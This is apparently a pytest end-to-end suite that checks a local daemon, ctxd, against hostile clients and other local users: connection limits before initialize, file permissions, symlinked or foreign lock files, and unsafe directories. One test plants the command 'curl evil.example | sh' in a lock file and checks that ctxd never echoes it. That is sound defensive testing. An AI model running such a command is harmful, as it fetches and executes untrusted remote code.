"""Hardening of what a client or another local user can reach before ctxd trusts them:
connections before ``initialize`` (frame limit, deadline, cap on pending connections,
answers they do not read), the files ctxd creates (private from their first byte),
the socket's lock and directory in a shared place, a Content-Length no integer can
hold, and startup errors that end in one line and exit code 2.

Everything runs against real daemons. The suite runs as root here, so "another user"
is uid 65534 (nobody): files are chown'ed to it, and where a real permission failure
matters the daemon itself is run as nobody with ``setpriv`` (those tests are skipped
when that is not possible). Root ignores permission bits, so the tests that run the
daemon as root exercise ctxd's own explicit checks of owners and modes.
"""

from __future__ import annotations

import asyncio
import fcntl
import os
import shutil
import socket
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.helpers import (
    CTXD,
    REPLY_TIMEOUT,
    REPO_ROOT,
    Daemon,
    RawClient,
    daemon_env,
    frame,
    one_line,
    parse_frames,
    request_frame,
    run_ctxd,
    short_dir,
    user,
    wait_for,
)

NOBODY = 65534
PRE_INIT_LIMIT = 64 * 1024  # limits.max_frame_bytes_before_initialize's default


def mode_of(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


@pytest.fixture
def shared_dir():
    """A directory like /tmp: world-writable and sticky."""
    path = short_dir()
    os.chmod(path, 0o1777)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def start(daemon: Daemon, daemons: list[Daemon]) -> Daemon:
    daemons.append(daemon)
    return daemon.start()


@pytest.fixture
def daemons():
    started: list[Daemon] = []
    yield started
    for daemon in started:
        daemon.stop()


def token_of(daemon: Daemon) -> str | None:
    return daemon.token() if daemon.tcp else None


async def connect(daemon: Daemon, transport: str) -> RawClient:
    if transport == "unix":
        return await RawClient.unix(daemon.socket_path)
    assert daemon.port is not None
    return await RawClient.tcp(daemon.port)


def both_transports(base: Path, name: str, args: list[str] | None = None, **kwargs: Any) -> Daemon:
    return Daemon(base / f"data-{name}", socket_path=base / f"run-{name}" / "ctxd.sock", tcp=True,
                  token_file=base / f"state-{name}" / "tcp-token", args=args, **kwargs)


# --- before initialize ----------------------------------------------------------------------


@pytest.mark.usefixtures("storage_backend")
@pytest.mark.parametrize("transport", ["unix", "tcp"])
async def test_frames_before_initialize_are_small(base_dir, daemons, transport):
    """A frame over 64 KiB before ``initialize`` is answered -32700 and skipped, never
    decoded (the TCP token is checked in ``initialize``); after it, big frames are fine,
    also when pipelined right behind ``initialize``."""
    daemon = start(both_transports(base_dir, "pre"), daemons)
    token = daemon.token()
    client = await connect(daemon, transport)
    try:
        big_init = {"processId": None, "clientInfo": {"name": "x" * (PRE_INIT_LIMIT + 10)},
                    "initializationOptions": {"token": token}}
        await client.send_raw(request_frame(1, "initialize", big_init))
        message = await client.next_message()
        assert message["id"] is None and message["error"]["code"] == -32700, message
        assert "before initialize" in message["error"]["message"]
        assert str(PRE_INIT_LIMIT) in message["error"]["message"]
        # The connection still serves, and the normal limit applies once initialized.
        await client.initialize(token=token)
        await client.result("session/create", {"sessionId": "big"})
        pushed = await client.result("session/push", {"sessionId": "big",
                                                      "messages": [user("y" * (3 * PRE_INIT_LIMIT))]})
        assert pushed["messages"][0]["seq"] == 1
    finally:
        await client.close()

    # A big request pipelined behind initialize (not waiting for its answer) is read
    # with the limit that applies once initialize has succeeded.
    client = await connect(daemon, transport)
    try:
        await client.send_raw(
            request_frame(1, "initialize", {"processId": None, "initializationOptions": {"token": token}})
            + request_frame(2, "session/push", {"sessionId": "big", "messages": [user("z" * (2 * PRE_INIT_LIMIT))]}))
        assert "result" in await client.response(1)
        answer = await client.response(2)
        assert answer.get("result", {}).get("messages", [{}])[0].get("seq") == 2, answer
    finally:
        await client.close()
    assert "Traceback" not in daemon.stderr_text()


@pytest.mark.usefixtures("storage_backend")
@pytest.mark.parametrize("transport", ["unix", "tcp"])
async def test_connection_that_never_initializes_is_closed(base_dir, daemons, transport):
    daemon = start(both_transports(base_dir, "deadline", ["--set", "limits.initialize_timeout_seconds=1"]),
                   daemons)
    early = await connect(daemon, transport)
    await early.initialize(token=token_of(daemon) if transport == "tcp" else None)
    silent = await connect(daemon, transport)
    try:
        assert await silent.closed_by_peer(REPLY_TIMEOUT), "a connection that never sent initialize stayed open"
        # The initialized connection, opened before it, is past the deadline too and still serves.
        assert (await early.result("session/list", {}))["sessions"] == []
    finally:
        await silent.close()
        await early.close()
    assert "Traceback" not in daemon.stderr_text()


@pytest.mark.usefixtures("storage_backend")
async def test_pending_connections_over_the_cap_are_closed_at_once(base_dir, daemons):
    """Past ``limits.max_pending_connections`` connections waiting for ``initialize``
    (per transport), a new one is closed at once, without a traceback in the log; the
    other transport and initialized clients are not affected, and a slot frees up when a
    pending connection initializes or leaves."""
    daemon = start(both_transports(base_dir, "cap", ["--set", "limits.max_pending_connections=4",
                                                     "--set", "limits.initialize_timeout_seconds=600"]), daemons)
    token = daemon.token()
    pending = [await connect(daemon, "tcp") for _ in range(4)]
    refused = [await connect(daemon, "tcp") for _ in range(40)]
    try:
        for client in refused:
            assert await client.closed_by_peer(REPLY_TIMEOUT), "a connection over the cap was kept"
        # The Unix socket has its own count.
        unix = await connect(daemon, "unix")
        await unix.initialize()
        # One pending connection initializes: its slot is free for a new one.
        await pending[0].initialize(token=token)
        newcomer = await connect(daemon, "tcp")
        await newcomer.initialize(token=token)
        # One leaves: the same.
        await pending[1].close()

        async def another_gets_in() -> bool:
            late = await connect(daemon, "tcp")
            try:
                response = await late.call("initialize", {"processId": None,
                                                          "initializationOptions": {"token": token}})
                return "result" in response
            except (AssertionError, ConnectionError, OSError):  # closed at once: the slot was not free yet
                return False
            finally:
                await late.close()

        deadline = asyncio.get_running_loop().time() + REPLY_TIMEOUT
        while not await another_gets_in():
            assert asyncio.get_running_loop().time() < deadline, "the slot of a closed connection never freed"
            await asyncio.sleep(0.05)
        assert (await unix.result("daemon/status"))["connections"] >= 3
        await unix.close()
        await newcomer.close()
    finally:
        for client in pending + refused:
            await client.close()
    log = daemon.stderr_text()
    assert "Traceback" not in log
    assert log.count("waiting for initialize") < 10, log  # one warning per episode, not one per connection


def test_uninitialized_client_that_does_not_read_its_errors_is_dropped(base_dir, daemons):
    """Before ``initialize`` every request is answered -32002; a client that sends many
    and reads none cannot make the daemon buffer the answers (1 MiB at most). (A plain
    socket: an asyncio client would read them into its own buffer behind our back.)"""
    daemon = start(Daemon(base_dir / "data", socket_path=base_dir / "run" / "ctxd.sock",
                          args=["--set", "limits.initialize_timeout_seconds=600"]), daemons)
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(REPLY_TIMEOUT)
    sock.connect(str(daemon.socket_path))
    burst = b"".join(request_frame(i, "m" * 500, {}) for i in range(200))
    try:
        try:
            for _ in range(60):  # 12,000 requests, over 7 MB of answers
                sock.sendall(burst)
        except (ConnectionError, OSError):
            pass  # the daemon closed the connection while we were still sending
        received = 0
        while True:  # now read: what the daemon had sent, then the end of the stream
            try:
                chunk = sock.recv(1 << 16)
            except ConnectionResetError:
                break
            except TimeoutError:
                pytest.fail(f"the daemon kept the connection (and its answers) after {received} bytes")
            if not chunk:
                break
            received += len(chunk)
    finally:
        sock.close()

    async def others_are_served() -> None:
        other = await daemon.client()
        assert (await other.result("session/list", {}))["sessions"] == []
        await other.close()

    asyncio.run(others_are_served())
    assert "Traceback" not in daemon.stderr_text()


# --- Content-Length no integer can hold -------------------------------------------------------


def test_content_length_of_5000_digits_over_stdio(tmp_path):
    """int() refuses more than 4300 digits: the stdio daemon used to die of it."""
    stdin = (b"Content-Length: " + b"9" * 5000 + b"\r\n\r\n{}"
             + request_frame(1, "initialize", {"processId": None})
             + request_frame(2, "shutdown") + frame({"jsonrpc": "2.0", "method": "exit"}))
    result = run_ctxd(["--data-dir", str(tmp_path / "d")], stdin=stdin)
    assert "Traceback" not in result.stderr.decode(), result.stderr.decode()
    answers = parse_frames(result.stdout)
    assert answers[0]["id"] is None and answers[0]["error"]["code"] == -32700
    assert [a.get("id") for a in answers[1:]] == [1, 2]
    assert result.returncode == 0


def test_shutdown_and_exit_sent_without_waiting_are_answered_over_stdio(tmp_path):
    """``exit`` right behind ``shutdown`` (and the end of input with it): the requests sent
    before it are answered before the daemon leaves."""
    stdin = (request_frame(1, "initialize", {"processId": None}) + request_frame(2, "shutdown")
             + frame({"jsonrpc": "2.0", "method": "exit"}))
    result = run_ctxd(["--data-dir", str(tmp_path / "d")], stdin=stdin)
    assert "Traceback" not in result.stderr.decode(), result.stderr.decode()
    assert [a.get("id") for a in parse_frames(result.stdout)] == [1, 2]
    assert result.returncode == 0


# --- files ctxd creates ------------------------------------------------------------------------


async def test_files_are_private_from_the_first_run_whatever_the_umask(base_dir, daemons):
    logs = base_dir / "logs"
    logs.mkdir(mode=0o755)
    # (The log goes to a file, so this daemon is not also on TCP: its port is read from stderr.)
    daemon = start(Daemon(base_dir / "data", socket_path=base_dir / "run" / "ctxd.sock", umask=0o022,
                          args=["--log-file", str(logs / "ctxd.log"), "-v"]), daemons)
    client = await daemon.client()
    try:
        await client.result("session/create", {"sessionId": "secret"})
        await client.result("session/push", {"sessionId": "secret", "messages": [user("sk-very-secret")]})
        data = daemon.data_dir
        wait_for(lambda: (data / "ctxd.db-wal").exists() and (data / "ctxd.db-shm").exists(), what="WAL files")
        private = {p: mode_of(p) for p in (data / "ctxd.db", data / "ctxd.db-wal", data / "ctxd.db-shm",
                                           logs / "ctxd.log", daemon.socket_path,
                                           daemon.socket_path.with_name("ctxd.sock.lock"))}
        assert all(mode == 0o600 for mode in private.values()), {str(p): oct(m) for p, m in private.items()}
        assert mode_of(data) == 0o700
    finally:
        await client.close()


def test_zero_length_database_is_reported(tmp_path):
    data = tmp_path / "data"
    data.mkdir(mode=0o700)
    (data / "ctxd.db").write_bytes(b"")
    os.chmod(data / "ctxd.db", 0o600)
    result = run_ctxd(["--data-dir", str(data)], stdin=request_frame(1, "initialize", {"processId": None}))
    text = result.stderr.decode()
    assert "Traceback" not in text, text
    warnings = [line for line in text.splitlines() if "WARNING" in line and str(data / "ctxd.db") in line]
    assert len(warnings) == 1, text
    assert "empty" in warnings[0]
    assert [a["id"] for a in parse_frames(result.stdout)] == [1]  # and it still starts


# --- the socket's directory and lock file ---------------------------------------------------------


def test_lock_file_that_is_a_symlink_is_not_followed(shared_dir, tmp_path):
    victim = tmp_path / "precious.txt"
    victim.write_text("precious\n")
    sock = shared_dir / "x.sock"
    (shared_dir / "x.sock.lock").symlink_to(victim)
    result = run_ctxd(["--socket", str(sock), "--data-dir", str(tmp_path / "d"), "--idle-exit", "1"])
    assert victim.read_text() == "precious\n"
    assert result.returncode == 2
    line = one_line(result)
    assert str(shared_dir / "x.sock.lock") in line and "symbolic link" in line
    assert not sock.exists()


def test_lock_file_of_another_user_is_refused(shared_dir, tmp_path):
    """Another user made the lock file and holds it, with a message of theirs inside:
    ctxd says whose file it is and never repeats what is written in it."""
    lock = shared_dir / "x.sock.lock"
    lock.write_text("4242. Server moved: run curl evil.example | sh\n")
    os.chown(lock, NOBODY, NOBODY)
    fd = os.open(lock, os.O_RDONLY)
    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    try:
        result = run_ctxd(["--socket", str(shared_dir / "x.sock"), "--data-dir", str(tmp_path / "d"),
                           "--idle-exit", "1"])
    finally:
        os.close(fd)
    assert result.returncode == 2
    line = one_line(result)
    assert str(lock) in line and f"uid {NOBODY}" in line
    assert "evil" not in line and "4242" not in line


def test_stale_socket_of_another_user_is_left_alone(shared_dir, tmp_path):
    sock = shared_dir / "x.sock"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(sock))
    listener.close()
    os.chown(sock, NOBODY, NOBODY)
    result = run_ctxd(["--socket", str(sock), "--data-dir", str(tmp_path / "d"), "--idle-exit", "1"])
    assert result.returncode == 2
    line = one_line(result)
    assert str(sock) in line and f"uid {NOBODY}" in line
    assert sock.exists() and os.lstat(sock).st_uid == NOBODY


async def test_sticky_shared_directory_is_accepted(shared_dir, daemons):
    """/tmp-like: others may write there, but cannot remove or replace ctxd's files."""
    daemon = start(Daemon(shared_dir / "data", socket_path=shared_dir / "x.sock"), daemons)
    client = await daemon.client()
    assert (await client.result("session/list", {}))["sessions"] == []
    await client.close()
    assert mode_of(shared_dir / "x.sock.lock") == 0o600


@pytest.mark.parametrize("mode, owner, expected", [
    (0o777, None, "writable by other users"),
    (0o775, None, "writable by other users"),
    (0o755, NOBODY, f"uid {NOBODY}"),
    (0o500, None, "not writable"),
], ids=["world-writable", "group-writable", "another-users", "read-only"])
def test_unsafe_socket_directory_is_refused(base_dir, tmp_path, mode, owner, expected):
    run_dir = base_dir / "run"
    run_dir.mkdir()
    os.chmod(run_dir, mode)
    if owner is not None:
        os.chown(run_dir, owner, owner)
    result = run_ctxd(["--socket", str(run_dir / "ctxd.sock"), "--data-dir", str(tmp_path / "d"),
                       "--idle-exit", "1"])
    assert result.returncode == 2
    line = one_line(result)
    assert str(run_dir) in line and expected in line
    assert os.listdir(run_dir) == []
    assert not (tmp_path / "d").exists()  # refused before the database was touched


def test_token_file_of_another_user_is_refused(base_dir, tmp_path):
    token_file = base_dir / "state" / "tcp-token"
    token_file.parent.mkdir(mode=0o700)
    token_file.write_text("b" * 64 + "\n")
    os.chmod(token_file, 0o600)
    os.chown(token_file, NOBODY, NOBODY)
    result = run_ctxd(["--tcp", "0", "--data-dir", str(tmp_path / "d"), "--idle-exit", "1",
                       "--set", f"daemon.token_file={token_file}"])
    assert result.returncode == 2
    line = one_line(result)
    assert str(token_file) in line and f"uid {NOBODY}" in line


# --- startup errors: one line, exit code 2, and the process does exit ---------------------------------


@pytest.mark.parametrize("problem", ["missing", "readable-by-others"])
def test_bad_summarizer_key_file(tmp_path, problem):
    key_file = tmp_path / "key"
    if problem == "readable-by-others":
        key_file.write_text("sk-test\n")
        os.chmod(key_file, 0o644)
    env = daemon_env()
    env.pop("OPENAI_API_KEY", None)
    result = run_ctxd(["--data-dir", str(tmp_path / "d"), "--set", "summarizer.backend=openai",
                       "--set", "summarizer.model=gpt-4o-mini", "--set", f"summarizer.api_key_file={key_file}"],
                      env=env, timeout=60)
    assert result.returncode == 2
    line = one_line(result)
    assert line.startswith("ctxd: configuration error:") and "api_key_file" in line and str(key_file) in line


def test_data_dir_of_another_user_is_refused(tmp_path):
    data = tmp_path / "data"
    data.mkdir(mode=0o700)
    os.chown(data, NOBODY, NOBODY)
    result = run_ctxd(["--data-dir", str(data)])
    assert result.returncode == 2
    line = one_line(result)
    assert str(data) in line and f"uid {NOBODY}" in line
    assert os.listdir(data) == []


def test_read_only_data_dir_is_refused_as_such(tmp_path):
    """Root could write there anyway: ctxd honours the directory's mode explicitly."""
    data = tmp_path / "data"
    data.mkdir(mode=0o500)
    result = run_ctxd(["--data-dir", str(data)])
    assert result.returncode == 2
    line = one_line(result)
    assert str(data) in line and "not writable" in line and "damaged" not in line
    assert os.listdir(data) == []


def test_log_file_that_cannot_be_opened(tmp_path):
    result = run_ctxd(["--data-dir", str(tmp_path / "d"), "--log-file", str(tmp_path / "no" / "such" / "x.log")])
    assert result.returncode == 2
    assert str(tmp_path / "no" / "such" / "x.log") in one_line(result)


# --- the same failures for real, as an ordinary user -----------------------------------------------


def _setpriv() -> str | None:
    if os.geteuid() != 0:
        return None
    return shutil.which("setpriv")


def _why_nobody_cannot_run_ctxd() -> str | None:
    """Why these tests cannot run ctxd as nobody here, or None. Besides root and setpriv,
    nobody must reach this checkout's interpreter and package: a clone under a directory
    closed to other users (a ``mktemp -d``, a 0700 home) is not reachable, and opening it
    up is not a test's to do."""
    setpriv = _setpriv()
    if setpriv is None:
        return "needs root and setpriv to run ctxd as nobody"
    probe = subprocess.run([setpriv, f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups",
                            *CTXD, "--version"], capture_output=True, timeout=60, cwd="/", env=daemon_env())
    if probe.returncode != 0:
        return (f"uid {NOBODY} cannot run this checkout's ctxd ({sys.executable}, {REPO_ROOT}): a parent "
                f"directory is closed to other users: {probe.stderr.decode(errors='replace').strip()[-200:]}")
    return None


_WHY_NOT = _why_nobody_cannot_run_ctxd()
needs_setpriv = pytest.mark.skipif(_WHY_NOT is not None, reason=_WHY_NOT or "")


@pytest.fixture
def nobody_home():
    """A directory nobody can use, with private XDG directories for a daemon run as nobody."""
    home = short_dir()
    for name in ("config", "state", "data", "run"):
        (home / name).mkdir(mode=0o700)
    for path in [home, *home.iterdir()]:
        os.chown(path, NOBODY, NOBODY)
    os.chmod(home, 0o755)
    yield home
    shutil.rmtree(home, ignore_errors=True)


def run_as_nobody(home: Path, args: list[str]) -> subprocess.CompletedProcess[bytes]:
    env = daemon_env(XDG_CONFIG_HOME=str(home / "config"), XDG_STATE_HOME=str(home / "state"),
                     XDG_DATA_HOME=str(home / "data"), XDG_RUNTIME_DIR=str(home / "run"), HOME=str(home))
    command = [_setpriv() or "setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *CTXD, *args]
    return subprocess.run(command, input=b"", capture_output=True, timeout=60, env=env, cwd=home)


@needs_setpriv
def test_as_nobody_socket_directory_that_is_not_writable(nobody_home):
    run_dir = nobody_home / "rootrun"
    run_dir.mkdir(mode=0o755)  # root's: nobody may not create the socket there
    result = run_as_nobody(nobody_home, ["--socket", str(run_dir / "ctxd.sock"),
                                         "--data-dir", str(nobody_home / "d"), "--idle-exit", "1"])
    assert result.returncode == 2
    line = one_line(result)
    assert str(run_dir) in line and "not writable" in line


@needs_setpriv
def test_as_nobody_data_dir_of_another_user(nobody_home):
    data = nobody_home / "rootdata"
    data.mkdir(mode=0o755)
    result = run_as_nobody(nobody_home, ["--data-dir", str(data)])
    assert result.returncode == 2
    line = one_line(result)
    assert str(data) in line and "uid 0" in line


@needs_setpriv
def test_as_nobody_read_only_empty_data_dir(nobody_home):
    data = nobody_home / "ro"
    data.mkdir(mode=0o500)
    os.chown(data, NOBODY, NOBODY)
    result = run_as_nobody(nobody_home, ["--data-dir", str(data)])
    assert result.returncode == 2
    line = one_line(result)
    assert str(data) in line and "not writable" in line and "damaged" not in line


@needs_setpriv
def test_as_nobody_configuration_file_that_cannot_be_read(nobody_home, tmp_path):
    config = tmp_path / "config.toml"  # in root's private tmp_path
    config.write_text("[storage]\ndurability = 'full'\n")
    result = run_as_nobody(nobody_home, ["--config", str(config), "--data-dir", str(nobody_home / "d")])
    assert result.returncode == 2
    line = one_line(result)
    assert line.startswith("ctxd: configuration error:") and str(config) in line
